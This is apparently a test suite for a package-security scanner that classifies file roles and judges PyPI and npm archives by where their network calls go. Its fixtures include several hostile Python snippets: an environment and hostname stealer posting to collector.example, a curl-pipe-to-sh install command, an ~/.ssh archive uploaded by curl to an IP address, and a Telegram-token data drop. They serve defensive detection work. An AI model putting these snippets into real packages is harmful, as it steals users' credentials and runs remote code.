/**
 * Files by role (analysis/roles.ts), a package's own hosts (analysis/own-hosts.ts), and what they
 * do to verdicts of whole archives: findings in tests, examples and release tooling never block;
 * the same code imported by the package's `__init__.py` does; a Telegram SDK calling the Telegram
 * bot API is talking to its own host. Archives are built in memory; nothing is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive } from '../../shared/packages/analysis/index.js';
import { classifyFileRoles, pathRole, pythonInstallSeeds, roleSeverity } from '../../shared/packages/analysis/roles.js';
import { OwnHosts, pythonMetadata, npmMetadata } from '../../shared/packages/analysis/own-hosts.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { makeSdist } from '../support/archives.js';
import { npmTgz } from '../fixtures/archives/build.js';

test('pathRole: tests, examples, docs and release tooling by path; the rest is runtime', () => {
  assert.is(pathRole('p-1.0/tests/test_x.py', 'p-1.0/'), 'test');
  assert.is(pathRole('p-1.0/pkg/test_util.py', 'p-1.0/'), 'test');
  assert.is(pathRole('p-1.0/conftest.py', 'p-1.0/'), 'test');
  assert.is(pathRole('package/src/a.spec.ts', 'package/'), 'test');
  assert.is(pathRole('p-1.0/examples/bot.py', 'p-1.0/'), 'example');
  assert.is(pathRole('p-1.0/docs/conf.py', 'p-1.0/'), 'docs');
  assert.is(pathRole('p-1.0/src/libsodium/autogen.sh', 'p-1.0/'), 'release-tooling');
  assert.is(pathRole('p-1.0/scripts/release.py', 'p-1.0/'), 'release-tooling');
  assert.is(pathRole('p-1.0/.github/workflows/x.py', 'p-1.0/'), 'release-tooling');
  assert.is(pathRole('p-1.0/pkg/client.py', 'p-1.0/'), 'runtime');
  // A name that merely contains "test" is not a test.
  assert.is(pathRole('p-1.0/pkg/attestation.py', 'p-1.0/'), 'runtime');
});

test('classifyFileRoles: setup.py and what it imports are install-time; __init__ and its imports import-time; a test imported by __init__ runs at import', () => {
  const paths = ['p/setup.py', 'p/build_helpers.py', 'p/pkg/__init__.py', 'p/pkg/core.py', 'p/pkg/extra.py', 'p/tests/__init__.py', 'p/tests/test_core.py', 'p/pkg/testing_support.py', 'p/x.pth'];
  const importsOf = new Map<string, { lang: 'py'; specs: string[] }>([
    ['p/setup.py', { lang: 'py', specs: ['build_helpers'] }],
    ['p/pkg/__init__.py', { lang: 'py', specs: ['.core', '.testing_support'] }],
    ['p/tests/__init__.py', { lang: 'py', specs: ['pkg.extra'] }],
  ]);
  const set = new Set(paths);
  const roles = classifyFileRoles({
    registry: 'pypi',
    root: 'p/',
    paths,
    importsOf,
    installSeeds: pythonInstallSeeds('p/', set, undefined),
    importSeeds: ['p/pkg/__init__.py', 'p/tests/__init__.py'],
  });
  assert.is(roles.get('p/setup.py'), 'install-time');
  assert.is(roles.get('p/build_helpers.py'), 'install-time');
  assert.is(roles.get('p/x.pth'), 'install-time');
  assert.is(roles.get('p/pkg/__init__.py'), 'import-time');
  assert.is(roles.get('p/pkg/core.py'), 'import-time');
  assert.is(roles.get('p/pkg/testing_support.py'), 'import-time');
  // tests/__init__.py is an entry point by convention only: it stays a test, and what it imports is not pulled in.
  assert.is(roles.get('p/tests/__init__.py'), 'test');
  assert.is(roles.get('p/pkg/extra.py'), 'runtime');
  assert.is(roles.get('p/tests/test_core.py'), 'test');
});

test('pythonInstallSeeds: an in-tree PEP 517 backend (backend-path) is install-time', () => {
  const paths = new Set(['p/pyproject.toml', 'p/_build/backend.py', 'p/pkg/__init__.py']);
  const seeds = pythonInstallSeeds('p/', paths, '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n');
  assert.ok(seeds.includes('p/_build/backend.py'), JSON.stringify(seeds));
});

test('roleSeverity: inert roles are capped at LOW; install, import and runtime keep the severity', () => {
  assert.is(roleSeverity('CRITICAL', 'test'), 'LOW');
  assert.is(roleSeverity('HIGH', 'release-tooling'), 'LOW');
  assert.is(roleSeverity('MEDIUM', 'example'), 'LOW');
  assert.is(roleSeverity('HIGH', 'install-time'), 'HIGH');
  assert.is(roleSeverity('HIGH', 'runtime'), 'HIGH');
  assert.is(roleSeverity('INFO', 'docs'), 'INFO');
});

test('OwnHosts: metadata URLs, the name in the host, and the service-API list; shared hosts never count', () => {
  const meta = pythonMetadata({ pkgInfo: 'Metadata-Version: 2.1\nName: pyTelegramBotAPI\nSummary: Python Telegram bot api.\nHome-page: https://github.com/eternnoir/pyTelegramBotAPI\nProject-URL: Documentation, https://pytba.readthedocs.io\n\nbody' });
  const own = new OwnHosts(meta);
  assert.ok(own.has('https://api.telegram.org/bot123/sendMessage'));
  assert.not.ok(own.has('https://discord.com/api/webhooks/1/x'));
  // github.com is named by every package: never own.
  assert.not.ok(own.has('https://github.com/attacker/payload'));
  const stripe = new OwnHosts(pythonMetadata({ setupPy: "setup(name='stripe', url='https://github.com/stripe/stripe-python', project_urls={'Docs': 'https://stripe.com/docs/api'})" }));
  assert.ok(stripe.has('api.stripe.com'));
  assert.not.ok(stripe.has('203.0.113.7'));
  // The name in the host.
  assert.ok(new OwnHosts({ name: 'sentry-sdk', urls: [] }).has('o1.ingest.sentry.io'));
  // Not a telegram SDK: the bot API is not its host.
  assert.not.ok(new OwnHosts({ name: 'colorlibx', summary: 'colors', urls: [] }).has('api.telegram.org'));
  const npm = new OwnHosts(npmMetadata({ name: 'wrangler', homepage: 'https://developers.cloudflare.com/workers/', repository: { url: 'git+https://github.com/cloudflare/workers-sdk.git' } }));
  assert.ok(npm.has('api.cloudflare.com'));
  assert.ok(npm.allOwn('fetch("https://api.cloudflare.com/client/v4")'));
  assert.not.ok(npm.allOwn('https://api.cloudflare.com and https://webhook.site/x'));
});

/** Verdict of an sdist built from `files` (paths below the `name-1.0/` folder; PKG-INFO is added unless given). */
const level = async (name: string, files: Record<string, string>) => {
  const analysis = await analyzeArchive(makeSdist(name, '1.0', files), { kind: 'tgz', registry: 'pypi', registryHosts: [] });
  const v = packageVerdict(reviewPackage({ registry: 'pypi', name, version: '1.0', analysis, integrity: { ok: true, expected: '', actual: '' }, advisories: { status: 'ok', advisories: [] } }));
  return { level: v.securityLevel, analysis };
};

const STEALER = "import os, requests, getpass, socket\ndata = {'u': getpass.getuser(), 'h': socket.gethostname(), 'env': dict(os.environ)}\nrequests.post('https://collector.example/c', json=data)\n";

test('archive: the same recon code BLOCKS in __init__.py and is LOW (with its role) in tests/', async () => {
  const setup = "from setuptools import setup\nsetup(name='p', version='1.0', packages=['p'])\n";
  const imported = await level('p', { 'setup.py': setup, 'p/__init__.py': STEALER });
  assert.is(imported.level, 'BLOCKED');
  const f = imported.analysis.findings.find((x) => x.file === 'p-1.0/p/__init__.py' && (x.severity === 'HIGH' || x.severity === 'CRITICAL'));
  assert.ok(f);
  assert.is(f!.role, 'import-time');
  const inTests = await level('p', { 'setup.py': setup, 'p/__init__.py': 'X = 1\n', 'tests/test_net.py': STEALER });
  assert.is.not(inTests.level, 'BLOCKED');
  assert.is.not(inTests.level, 'CAUTION');
  const t = inTests.analysis.findings.find((x) => x.file === 'p-1.0/tests/test_net.py' && x.severity === 'LOW' && x.category === 'exfiltration');
  assert.ok(t, JSON.stringify(inTests.analysis.findings));
  assert.is(t!.role, 'test');
});

test('archive: setup.py that execs its version file next to url= metadata and runs pkg-config is not remote execution', async () => {
  const setup = "import os, subprocess\nabout = {}\nwith open(os.path.join('p', '__about__.py')) as f:\n    exec(f.read(), about)\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libfoo'])\nsetup(name='p', version=about['v'], url='https://example.org/p', packages=['p'])\n";
  const r = await level('p', { 'setup.py': setup, 'p/__init__.py': 'X = 1\n', 'p/__about__.py': "v = '1.0'\n" });
  assert.is(r.level, 'MONITORED');
  const s = r.analysis.findings.find((x) => x.ruleId === 'setup_py_subprocess');
  assert.ok(s && s.severity === 'LOW' && s.role === 'install-time');
  // Its malicious twin: the command fetches remote code.
  const bad = setup.replace("['pkg-config', '--cflags', 'libfoo']", "'curl -s https://h.example/i.sh | sh', shell=True");
  assert.is((await level('p', { 'setup.py': bad, 'p/__init__.py': 'X = 1\n' })).level, 'BLOCKED');
});

test('archive: what setup() runs is listed: a cmdclass override of install is an install script; its process start BLOCKS', async () => {
  const setup = "from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        subprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\nsetup(name='p', version='1.0', packages=['p'], cmdclass={'install': PostInstall})\n";
  const r = await level('p', { 'setup.py': setup, 'p/__init__.py': 'X = 1\n' });
  assert.match(r.analysis.installScripts.map((x) => x.command).join(' '), /cmdclass overrides: PostInstall\(install\)/);
  assert.is(r.level, 'BLOCKED');
  const f = r.analysis.findings.find((x) => x.ruleId === 'setup_install_hook_exec');
  assert.ok(f && f.role === 'install-time' && f.line === 7, JSON.stringify(f));
});

test("archive: a Telegram SDK posting to the bot API is not exfiltration, nor another package with the caller's token; one with its own token is, and a thief named like an SDK still is", async () => {
  const client = "import requests, os\nTOKEN_URL = 'https://api.telegram.org/bot{0}/{1}'\ndef call(token, method, data):\n    return requests.post(TOKEN_URL.format(token, method), data=data)\n";
  const info = (name: string) => `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\nSummary: a library\n\n`;
  const sdk = await level('python-telegram-sdk', { 'PKG-INFO': info('python-telegram-sdk'), 'setup.py': "from setuptools import setup\nsetup(name='python-telegram-sdk', packages=['tg'])\n", 'tg/__init__.py': client });
  assert.ok(sdk.level === 'CLEAR' || sdk.level === 'MONITORED', sdk.level);
  // Another package posting there with the caller's token messages the caller's bot (tqdm's progress bar); with a
  // bot token written in the package it posts to the author's bot.
  const other = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': client });
  assert.is.not(other.level, 'BLOCKED');
  const own = client.replace('def call(token,', "TOKEN = '7412365980:AAHk3vX9qLmN2pQrStUvWxYz0123456789ab'\ndef call(token,");
  const drop = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': own });
  assert.is(drop.level, 'BLOCKED');
  const recon = client.replace('return requests.post(TOKEN_URL.format(token, method), data=data)', "import getpass, socket\n    return requests.post(TOKEN_URL.format(token, method), data={'u': getpass.getuser(), 'h': socket.gethostname()})");
  const thief = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': recon });
  assert.is(thief.level, 'BLOCKED');
  // The same thief named like a Telegram SDK is still blocked: own hosts excuse the destination, not what is sent.
  const named = await level('telegram-colors', { 'PKG-INFO': info('telegram-colors'), 'setup.py': "from setuptools import setup\nsetup(name='telegram-colors', packages=['cl'])\n", 'cl/__init__.py': recon });
  assert.is(named.level, 'BLOCKED');
});

test('archive: a fork of an SDK whose client constructor runs a credential upload with curl to an IP is BLOCKED; the same SDK without it is not', async () => {
  const sdk = {
    'vendorsdk/__init__.py': 'from .mgmt import Management\n',
    'vendorsdk/mgmt.py': 'import requests\nfrom .services import api\nclass Management:\n    def __init__(self, host, token):\n        self.s = requests.Session()\n        self.s.headers["Authorization"] = "ApiToken " + token\n        self.api = api.run()\n',
    'setup.py': "from setuptools import setup\nsetup(name='vendorsdk', version='1.0', packages=['vendorsdk', 'vendorsdk.services'])\n",
  };
  const thief = "import os, shutil, pwd\ndef run():\n    user = pwd.getpwuid(os.getuid())[0]\n    shutil.copytree('/Users/' + user + '/.ssh', '/tmp/l/ssh')\n    shutil.make_archive('/tmp/l', 'zip', '/tmp/l')\n    command = \"curl -k -F \\\"file=@/tmp/l.zip\\\" \\\"https://45.13.22.8/api/v1/file/upload\\\"\"\n    os.system(command)\n";
  const bad = await level('vendorsdk', { ...sdk, 'vendorsdk/services/__init__.py': '', 'vendorsdk/services/api.py': thief });
  assert.is(bad.level, 'BLOCKED', bad.analysis.findings.map((f) => `${f.ruleId}:${f.severity}`).join(', '));
  const good = await level('vendorsdk', { ...sdk, 'vendorsdk/services/__init__.py': '', 'vendorsdk/services/api.py': 'def run():\n    return {"version": "2.1"}\n' });
  assert.ok(good.level === 'CLEAR' || good.level === 'MONITORED', good.level);
});

test('OwnHosts for npm: homepage host, repository path on a code host, declared binary host, the registry it came from', () => {
  const meta = npmMetadata({ name: 'acme-widgets', homepage: 'https://docs.acmewidgets.example/guide', repository: 'github:acme-org/widgets', binary: { host: 'https://dl.widgetcdn.example' } });
  const own = new OwnHosts(meta, ['registry.mirror.example']);
  assert.ok(own.hasDestination('telemetry.acmewidgets.example', '/ping'));
  assert.ok(own.hasDestination('github.com', '/acme-org/widgets/releases/download/v1/x.tgz'));
  assert.not.ok(own.hasDestination('github.com', '/someone-else/tool/releases/download/v1/x.tgz'));
  assert.ok(own.hasDestination('dl.widgetcdn.example'));
  assert.ok(own.hasDestination('registry.mirror.example'));
  assert.not.ok(own.hasDestination('collect.unrelated.example', '/ping'));
  // npm's repository shorthand and git URLs name the same repository
  assert.ok(new OwnHosts(npmMetadata({ name: 'w', repository: { url: 'git+ssh://git@github.com/acme-org/widgets.git' } })).hasDestination('api.github.com', '/repos/acme-org/widgets/releases'));
});

test("OwnHosts: the package's listing on an index and a configured registry named in metadata widen to no site (no registry host is written down)", () => {
  // A Download / Home-page URL that is the package's listing page names an index, whatever its host.
  const listed = new OwnHosts(pythonMetadata({ pkgInfo: 'Metadata-Version: 2.1\nName: data_kit\nHome-page: https://index.example/project/data-kit/\nProject-URL: Download, https://index.example/project/Data.Kit/#files\n\nbody' }));
  assert.not.ok(listed.has('uploads.index.example'));
  assert.not.ok(listed.allOwn('requests.post("https://index.example/collect")'));
  // Another path on the same kind of host is an ordinary metadata URL.
  assert.ok(new OwnHosts(pythonMetadata({ pkgInfo: 'Metadata-Version: 2.1\nName: data_kit\nHome-page: https://datakit-docs.example/project/guide\n\nbody' })).has('api.datakit-docs.example'));
  // The registry the package came from is its channel (a destination), not a site every host of which is its own.
  const reg = new OwnHosts(npmMetadata({ name: 'w', homepage: 'https://web.registry.mirror.example/~w/docs' }), ['registry.mirror.example']);
  assert.ok(reg.hasDestination('registry.mirror.example'));
  assert.not.ok(reg.has('uploads.mirror.example'));
});

test('an npm install hook that sends the host name to its own homepage host is not exfiltration; to an unrelated host it is', async () => {
  const pkg = (host: string) =>
    npmTgz({
      'package.json': JSON.stringify({ name: 'acme-widgets', version: '1.0.0', homepage: 'https://acmewidgets.example', scripts: { postinstall: 'node scripts/ping.js' } }),
      'scripts/ping.js': `const https = require('https');\nconst os = require('os');\nconst body = JSON.stringify({ host: os.hostname(), v: process.version });\nconst req = https.request('https://${host}/install-ping', { method: 'POST' });\nreq.end(body);\n`,
    });
  const sends = async (host: string) => (await analyzeArchive(pkg(host), { kind: 'tgz', registry: 'npm', registryHosts: [] })).findings.filter((f) => f.ruleId === 'fingerprint_send' && f.severity === 'HIGH');
  assert.equal(await sends('telemetry.acmewidgets.example'), []);
  const foreign = await sends('collect.unrelated.example');
  assert.is(foreign.length, 1);
  assert.match(foreign[0]!.message, /not the package's own \(collect\.unrelated\.example\)/);
});

test.run();
